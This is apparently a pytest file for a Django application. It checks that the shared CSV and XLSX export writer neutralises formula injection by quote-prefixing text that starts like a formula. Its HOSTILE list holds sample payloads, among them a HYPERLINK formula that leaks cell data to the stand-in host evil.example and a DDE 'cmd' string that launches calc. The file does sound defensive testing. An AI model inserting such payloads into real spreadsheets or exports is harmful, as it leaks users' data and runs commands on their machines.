"""Formula injection (issue 17, defect 3): text typed by someone never runs as a formula in a
downloaded CSV or XLSX, in every export (one shared writer, sinergi/core/spreadsheets.py)."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from sinergi.accounts import services as accounts_services
from sinergi.core.services import SYSTEM
from sinergi.core.spreadsheets import csv_chunks, safe_text, write_xlsx
from sinergi.programs import services as program_services
from sinergi.programs.testing import build_program
from sinergi.registry import services as registry_services
from sinergi.registry.models import Enterprise

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def test_text_that_starts_like_a_formula_is_neutralised_and_numbers_stay_numbers():
    for text in HOSTILE:
        assert safe_text(text) == "'" + text
    assert safe_text("Công ty = tốt") == "Công ty = tốt"
    assert safe_text(-5) == -5 and safe_text(2.5) == 2.5 and safe_text(None) is None


def _xlsx_formulas(content: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
        ]


def test_the_shared_writers_keep_hostile_text_as_text():
    rows = [[text, -7, 3.5] for text in HOSTILE]
    buffer = io.BytesIO()
    write_xlsx(buffer, ["Name", "Change", "Share"], rows, title="=1+1")
    assert _xlsx_formulas(buffer.getvalue()) == []
    sheet = load_workbook(buffer).active
    cells = list(sheet.iter_rows(min_row=3))
    assert [row[0].value for row in cells] == HOSTILE
    assert all(row[0].data_type == "s" and row[0].quotePrefix for row in cells)
    assert [row[1].value for row in cells] == [-7] * len(HOSTILE)  # numbers stay numbers
    text = "".join(csv_chunks(["=Header"], rows))
    read = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert read[0] == ["'=Header"]
    assert [r[0] for r in read[1:]] == ["'" + t for t in HOSTILE]
    assert [r[1] for r in read[1:]] == ["-7"] * len(HOSTILE)


@pytest.fixture
def hostile_enterprise(world):
    enterprise = Enterprise.objects.get(tax_id="5300100003")
    return registry_services.enterprise_update(
        actor=SYSTEM, enterprise=enterprise, data={"name": HOSTILE[0]}
    )


def test_the_enterprise_exports_neutralise_a_hostile_name(world, hostile_enterprise):
    viewer = world.client("viewer")
    xlsx = viewer.get(reverse("registry:enterprise_export", args=["xlsx"]))
    assert _xlsx_formulas(xlsx.content) == []
    names = [row[1] for row in load_workbook(io.BytesIO(xlsx.content)).active.values]
    assert HOSTILE[0] in names
    text = b"".join(viewer.get(reverse("registry:enterprise_export", args=["csv"]))).decode()
    assert f"'{HOSTILE[0]}" in next(r for r in csv.reader(io.StringIO(text)) if "evil" in str(r))


def test_the_program_matrix_exports_neutralise_a_hostile_task_title(world):
    built = build_program(world)
    task = built.tasks["a"]
    program_services.task_update(actor=SYSTEM, task=task, data={"title": HOSTILE[0]})
    viewer = world.client("viewer")
    xlsx = viewer.get(reverse("programs:program_matrix_export", args=[built.program.pk, "xlsx"]))
    assert xlsx.status_code == 200 and _xlsx_formulas(xlsx.content) == []
    tasks = load_workbook(io.BytesIO(xlsx.content)).worksheets[1]
    titles = [row[1] for row in tasks.iter_rows(min_row=2, values_only=True)]
    assert HOSTILE[0] in titles
    # The CSV carries the units' names as its header: an administrator's typo like "@…".
    accounts_services.unit_update(actor=SYSTEM, unit=task.lead_unit, data={"name": HOSTILE[3]})
    response = viewer.get(reverse("programs:program_matrix_export", args=[built.program.pk, "csv"]))
    header = next(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert f"'{HOSTILE[3]}" in header and HOSTILE[3] not in header
